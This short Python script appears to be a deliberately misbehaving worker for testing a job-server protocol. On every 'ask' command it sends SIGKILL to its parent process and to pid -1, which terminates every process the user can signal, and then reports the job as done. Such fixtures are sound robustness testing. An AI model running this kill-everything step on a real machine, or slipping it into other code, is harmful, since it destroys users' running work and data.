"""Kills every process that it may."""

import os
import signal
import sys
from contextlib import suppress

print("podium 1 tokens", flush=True)
for line in sys.stdin:
    kind, n, *_ = line.split()
    if kind == "ask":
        for pid in (os.getppid(), -1):
            with suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        print(f"answer {n} done", flush=True)
